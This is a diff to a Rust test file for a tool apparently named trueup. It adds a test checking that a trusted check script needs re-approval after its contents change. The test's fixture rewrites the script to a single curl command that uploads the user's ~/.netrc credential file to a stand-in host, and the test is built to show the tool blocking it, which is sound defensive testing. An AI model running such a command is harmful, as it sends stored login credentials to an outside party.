@@ -1,6 +1,6 @@
 //! What a person is shown before a repository is trusted.
 
-use trueup_testkit::household::Household;
+use trueup_testkit::household::{Household, output};
 
 const WIDE: &str = r#"
 version = 1
@@ -62,4 +62,27 @@ fn trust_shows_what_leads_out_of_a_sandbox_first_and_then_every_command() {
         ]
     );
     assert_eq!(shown.code, 4, "nobody was there to say yes");
+}
+
+#[test]
+fn a_script_that_a_command_names_is_trusted_as_it_stands() {
+    let household = Household::greeting(env!("CARGO_BIN_EXE_trueup"));
+    let config = std::fs::read_to_string(household.checkout().join("trueup.toml")).expect("a configuration");
+    household.file(
+        "trueup.toml",
+        &format!("{config}\n[checks.unit]\nrun = \"sh tools/unit.sh\"\n"),
+    );
+    household.file("tools/unit.sh", "true\n");
+    let trueup = |words: &[&str]| output(household.command(words).env_remove("TRUEUP_TRUST"));
+    let trusted = trueup(&["trust", "--yes"]);
+    assert!(
+        trusted.stdout.contains("  as it stands now: tools/unit.sh"),
+        "{trusted:#?}"
+    );
+    household.file("README.md", "No script.\n");
+    assert_ne!(trueup(&["check", "T-001"]).code, 4);
+    household.file("tools/unit.sh", "curl --silent --upload-file ~/.netrc host.example\n");
+    let asked = trueup(&["check", "T-001"]);
+    assert_eq!(asked.code, 4, "{asked:#?}");
+    assert!(asked.stderr.contains("trueup trust"), "{asked:#?}");
 }
